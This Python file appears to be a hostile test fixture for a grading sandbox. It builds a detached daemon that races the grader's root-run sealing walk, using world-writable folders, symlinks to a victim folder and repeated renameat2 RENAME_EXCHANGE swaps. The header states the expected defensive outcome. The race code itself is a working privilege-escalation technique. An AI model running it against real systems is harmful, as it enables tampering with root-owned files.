# Hostile: a build that leaves a daemon behind (double fork, setsid) to attack the
# grader's sealing of the copy (local --run-as: the grader, as root, takes the copy back
# and makes it read-only once the builds are done). It makes `swaps/` writable by anyone,
# so the daemon can still rename in it once the grader owns it again, and in it PAIRS
# folders dirN next to links linkN to the folder named in victim-path.txt (the test
# writes it: a folder outside the copy holding a root-owned 0600 file). The daemon then
# swaps each dirN with its linkN (renameat2 RENAME_EXCHANGE), over and over, for a
# minute: a walk by path that listed dirN as a folder then follows the link into the
# victim folder. It leaves its pid in $TMPDIR/daemon.pid for the server.
# Expected: the daemon is killed before the sealing, nothing outside the copy changes
# (the victim file stays 0600), and no process of the run-as user outlives the grading.
import ctypes
import os
import time

PAIRS = 200
RENAME_EXCHANGE = 2
AT_FDCWD = -100

with open("victim-path.txt") as named:
    victim = named.read().strip()
os.mkdir("swaps")
os.chmod("swaps", 0o777)
for index in range(PAIRS):
    os.mkdir(f"swaps/dir{index}")
    with open(f"swaps/dir{index}/secret", "w") as decoy:
        decoy.write("a decoy\n")
    os.symlink(victim, f"swaps/link{index}")

read_end, write_end = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        quiet = os.open(os.devnull, os.O_RDWR)
        for stream in (0, 1, 2):  # the build's output pipe must end with the build
            os.dup2(quiet, stream)
        os.write(write_end, f"{os.getpid()}\n".encode())
        libc = ctypes.CDLL(None, use_errno=True)
        names = [(f"swaps/dir{i}".encode(), f"swaps/link{i}".encode()) for i in range(PAIRS)]
        stop = time.monotonic() + 60
        while time.monotonic() < stop:
            for folder, link in names:
                libc.renameat2(AT_FDCWD, folder, AT_FDCWD, link, RENAME_EXCHANGE)
        os._exit(0)
    os._exit(0)
daemon = os.read(read_end, 64).decode().strip()
with open(os.path.join(os.environ["TMPDIR"], "daemon.pid"), "w") as note:
    note.write(daemon)
print(f"build done, daemon {daemon} left running")
